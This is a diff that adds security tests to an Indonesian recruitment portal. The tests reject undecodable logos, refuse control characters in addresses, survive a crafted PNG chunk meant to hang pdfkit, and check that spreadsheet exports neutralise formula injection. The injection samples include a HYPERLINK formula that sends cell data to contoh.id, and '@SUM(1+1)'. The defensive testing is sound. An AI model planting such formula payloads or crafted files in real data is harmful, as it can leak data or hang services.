@@ -11,9 +11,11 @@ import path from 'node:path';
 import { ALASAN_TMS, DASAR_HUKUM_BAKU } from '@portal/contract';
 import ExcelJS from 'exceljs';
 import { sql } from 'kysely';
+import QRCode from 'qrcode';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { seedAccounts } from '../../db/seed/accounts.js';
 import { seedApplicants } from '../../db/seed/applicants.js';
+import { demoFile } from '../../db/seed/demo-files.js';
 import { FolderBerkasStore } from '../../storage/folder-berkas-store.js';
 import { createTestApp, createUser, TestClient, type TestContext } from '../../test/test-app.js';
 
@@ -311,5 +313,127 @@ describe('official documents (issue #20)', () => {
       payload: { alamat: 'x', logo: { mime: 'image/png', base64: Buffer.from('<svg/>').toString('base64') } },
     });
     expect(res.statusCode).toBe(400);
+  });
+});
+
+describe('letterheads and tables that cannot hurt (issue #30)', () => {
+  const PNG_MAGIC = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+  const putKop = (payload: object) =>
+    client.request({ method: 'PUT', url: '/api/cpns/admin/dokumen-resmi/kop', token: admin, payload });
+  const logo = (mime: string, bytes: Buffer | Uint8Array) => ({ mime, base64: Buffer.from(bytes).toString('base64') });
+
+  it('refuses at save a logo that has the PNG or JPEG magic but does not decode; takes real ones', async () => {
+    const real = await QRCode.toBuffer('kop', { type: 'png', width: 64 });
+    const garbage = [
+      logo('image/png', Buffer.concat([PNG_MAGIC, Buffer.from('sampah bukan gambar sama sekali')])),
+      // A real PNG with its image data damaged (the CRCs fixed up would still not inflate).
+      logo('image/png', Buffer.concat([real.subarray(0, real.length - 40), Buffer.alloc(40, 7)])),
+      logo('image/jpeg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from('sampah')])),
+    ];
+    for (const bad of garbage) {
+      const res = await putKop({ alamat: 'Jalan Uji', logo: bad });
+      expect(res.statusCode, res.body).toBe(400);
+      expect(res.json()).toMatchObject({
+        message: 'Logo tidak dapat dibaca sebagai gambar PNG atau JPEG.',
+        details: [{ field: 'body.logo' }],
+      });
+    }
+    const png = await putKop({ alamat: 'Jalan Uji', logo: logo('image/png', real) });
+    expect(png.statusCode, png.body).toBe(200);
+    const jpeg = await putKop({ alamat: 'Jalan Uji', logo: logo('image/jpeg', demoFile('PAS_FOTO').bytes) });
+    expect(jpeg.statusCode, jpeg.body).toBe(200);
+    expect(jpeg.json()).toEqual({ alamat: 'Jalan Uji', adaLogo: true });
+  });
+
+  it('refuses an address with a lone surrogate or a control character', async () => {
+    for (const alamat of ['Jalan \uD800 Uji', 'Jalan \uDC00', 'Jalan\u0007Uji']) {
+      const res = await putKop({ alamat });
+      expect(res.statusCode, res.body).toBe(400);
+      expect(res.json().message).toMatch(/tidak dapat dicetak|tidak valid|tidak sah/);
+    }
+  });
+
+  it('still makes the minutes, without the logo, when the stored logo and address are damaged', async () => {
+    // Stored before logos were checked (or damaged in the store): written behind the API's back.
+    const broken = [
+      Buffer.concat([PNG_MAGIC, Buffer.from('sampah bukan gambar sama sekali')]),
+      // A chunk length pdfkit's PNG reader would loop on forever.
+      Buffer.concat([PNG_MAGIC, Buffer.from([0xff, 0xff, 0xff, 0xf4]), Buffer.from('abcd'), Buffer.alloc(16)]),
+    ];
+    for (const bytes of broken) {
+      const sha256 = await new FolderBerkasStore(dir).put(bytes);
+      await ctx.db
+        .updateTable('instansi_kop')
+        .set({ logo_sha256: sha256, logo_mime: 'image/png', alamat: 'Jalan Rusak \uD800 No. 1' })
+        .where('instansi_id', '=', INSTANSI)
+        .execute();
+      const made = await post('/berita-acara', { ...beritaAcara, nomor: `BA/${sha256.slice(0, 6)}/2026` });
+      expect(made.statusCode, made.body).toBe(201);
+      const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${made.json().kode}`, token: admin });
+      const { text } = pdfText(file.rawPayload);
+      expect(text).toContain('BERITA ACARA');
+      expect(text).toContain('Jalan Rusak');
+    }
+  });
+
+  it('writes the announcement table with formula-looking text as text, quoted', async () => {
+    const status = await client.request({ url: '/api/cpns/admin/dokumen-resmi', token: admin });
+    const dokumen = status.json().dokumen.find((d: { jenis: string }) => d.jenis === 'PENGUMUMAN');
+    const target = await ctx.db
+      .selectFrom('pelamar')
+      .select(['id', 'no_peserta', 'nama', 'gelar_depan', 'gelar_belakang', 'formasi_id'])
+      .where('instansi_id', '=', INSTANSI)
+      .where('track', '=', 'cpns')
+      .orderBy('id')
+      .executeTakeFirstOrThrow();
+    const formasi = await ctx.db
+      .selectFrom('formasi')
+      .select('jabatan_nama')
+      .where('id', '=', target.formasi_id)
+      .executeTakeFirstOrThrow();
+    const hyperlink = '=HYPERLINK("https://contoh.id/?x="&A1,"Lihat")';
+    await ctx.db
+      .updateTable('pelamar')
+      .set({ nama: hyperlink, gelar_depan: null, gelar_belakang: null })
+      .where('id', '=', target.id)
+      .execute();
+    await ctx.db
+      .updateTable('formasi')
+      .set({ jabatan_nama: '@SUM(1+1)' })
+      .where('id', '=', target.formasi_id)
+      .execute();
+    try {
+      const file = await client.request({ url: `/api/cpns/admin/dokumen-resmi/${dokumen.kode}/xlsx`, token: admin });
+      expect(file.statusCode, file.body).toBe(200);
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(file.rawPayload as unknown as ArrayBuffer);
+      const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+      let found: ExcelJS.Row | undefined;
+      sheet.eachRow((row) => {
+        if (row.getCell(5).value === target.no_peserta) found = row;
+      });
+      expect(found).toBeDefined();
+      const nama = found?.getCell(6);
+      expect(nama?.type).toBe(ExcelJS.ValueType.String);
+      expect(nama?.value).toBe(`'${hyperlink}`);
+      expect(found?.getCell(2).value).toBe("'@SUM(1+1)");
+      // The row number is still a number.
+      expect(found?.getCell(1).type).toBe(ExcelJS.ValueType.Number);
+      sheet.eachRow((row) => {
+        row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
+      });
+    } finally {
+      const { nama, gelar_depan, gelar_belakang } = target;
+      await ctx.db
+        .updateTable('pelamar')
+        .set({ nama, gelar_depan, gelar_belakang })
+        .where('id', '=', target.id)
+        .execute();
+      await ctx.db
+        .updateTable('formasi')
+        .set({ jabatan_nama: formasi.jabatan_nama })
+        .where('id', '=', target.formasi_id)
+        .execute();
+    }
   });
 });
